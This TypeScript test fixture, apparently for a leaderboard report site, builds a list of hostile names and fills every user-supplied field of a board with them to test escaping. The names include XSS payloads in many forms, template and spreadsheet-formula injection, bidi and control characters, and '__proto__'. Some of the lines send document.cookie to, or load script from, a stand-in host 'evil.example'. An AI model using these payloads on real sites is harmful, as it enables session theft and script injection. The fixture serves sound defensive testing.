/** Names that attack whoever shows them: markup, attributes, comments, scripts, directions of text, formulas, templates. */
import type { Dataset } from '../../contracts.ts'
import type { Board } from '../../reports/board.ts'
import type { Chapter } from '../../reports/site/contents.ts'
import type { Recipe } from '../../reports/site/recompute.ts'
import { line, score, standing } from '../reports/lines.ts'

const ACTIONS = ['alert(1)', 'fetch("//evil.example/"+document.cookie)', 'import("//evil.example/a.js")']
const FORMS: readonly ((action: string) => string)[] = [
  (action) => `<script>${action}</script>`,
  (action) => `</script><script>${action}</script>`,
  (action) => `<img src=x onerror='${action}'>`,
  (action) => `"><svg onload=${action}>`,
  (action) => `' onmouseover='${action}' x='`,
  (action) => `" autofocus onfocus="${action}" x="`,
  (action) => `<iframe srcdoc="<script>${action}</script>">`,
  (action) => `javascript:${action}`,
  (action) => `<!--<script>${action}//-->`,
  (action) => `]]><script>${action}</script>`,
  (action) => `<a href="javascript:${action}">here</a>`,
  (action) => `<style>*{background:url(//evil.example/?${action})}</style>`,
  (action) => `</title><body onload=${action}>`,
  (action) => `\${${action}}{{${action}}}<%= ${action} %>`,
  (action) => `=HYPERLINK("${action}")`,
  (action) => `&lt;script&gt;${action}&lt;/script&gt;&#60;b&#62;`,
]
const UNSEEN = [
  '\u202Egpj.exe',
  'a\u2066b\u2069',
  '\u0000nul',
  'line\nbreak\u2028',
  '\uFEFFmark',
  '\uD800',
  'a\u200Fb',
  '\t=1+1',
]

export const HOSTILE_NAMES: readonly string[] = [
  ...FORMS.flatMap((form) => ACTIONS.map(form)),
  ...UNSEEN,
  '',
  '__proto__',
  '..',
]

/** A board on which all that can be a stranger's word is one of `names`. */
export function chapterOf(names: readonly string[]): Chapter {
  const [name] = names as [string]
  const dataset = { name: 'set', version: name, about: name, license: name, cite: name, made: true }
  const lines = names.map((model, i) =>
    line({
      model,
      loss: model,
      device: model,
      by: { name: model, url: model },
      about: [model],
      cite: model,
      version: model,
      scores: { 'relative-l2': score(1 + i) },
      runs: [`run${i}`],
    }),
  )
  const own = standing(lines, { dataset, notes: [...names] })
  const board: Board = {
    track: 'operators',
    about: name,
    cite: name,
    profile: name,
    asked: { stages: name, flags: name },
    seed: 1,
    standings: [own],
    overall: null,
  }
  const recipe: Recipe = {
    track: 'operators',
    dataset: 'set',
    key: 'row',
    facts: {},
    truth: { schema: {}, shards: [] },
    predictions: {},
    metrics: [],
    lines: { a: { name, scores: {}, runs: [] } },
  }
  const sections = [
    {
      title: 'Words',
      blocks: [
        { kind: 'text', text: name } as const,
        { kind: 'code', language: '', text: name } as const,
        { kind: 'list', items: [name] } as const,
      ],
    },
  ]
  const card = { name: 'set', about: name, source: name, cite: name, sections }
  const manifest = { name: 'set', track: 'operators', schema: {} } as unknown as Dataset
  const method = (model: string) => ({
    model,
    loss: model,
    params: { [model]: model },
    seed: 0,
    parameters: 1,
  })
  const runs = names.map((model, i) => [
    `run${i}`,
    { submission: { method: method(model) }, scores: {}, history: [], worst: [] },
  ])
  return { board, sets: [{ standing: own, dataset: manifest, card, recipe, runs: new Map(runs as never) }] }
}
